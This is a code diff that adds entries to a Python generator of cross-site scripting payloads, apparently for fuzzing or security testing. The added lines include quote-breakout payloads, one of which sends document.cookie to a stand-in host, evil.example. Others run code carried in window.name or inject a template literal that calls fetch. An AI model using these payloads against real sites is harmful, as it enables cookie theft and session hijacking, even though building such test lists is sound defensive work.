@@ -103,6 +103,11 @@ def other_shapes_family() -> list[str]:
     for breaker in ["</title>", "</textarea>", "</script>", "-->", "</style>", "</noscript>"]:
         out.append(f"{breaker}<img src=x onerror=alert(1)>")
         out.append(f"{breaker}<script>alert(1)</script>")
+    for q, op in itertools.product(["'", '"', "`"], ["-", ";", "};", "+"]):
+        out.append(f"{q}{op}(location=name){op}{q}")  # window.name carries the code
+        out.append(f"{q}{op}document.location='//evil.example/'+document.cookie//")
+    for code in ["alert(1)", "document.cookie", "fetch('//evil.example')", "window.location"]:
+        out.append("${" + code + "}")  # a JavaScript template literal
     for srcdoc in ['<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">', "<iframe srcdoc='<script>alert(1)</script>'>"]:
         out.append(srcdoc)
     return out
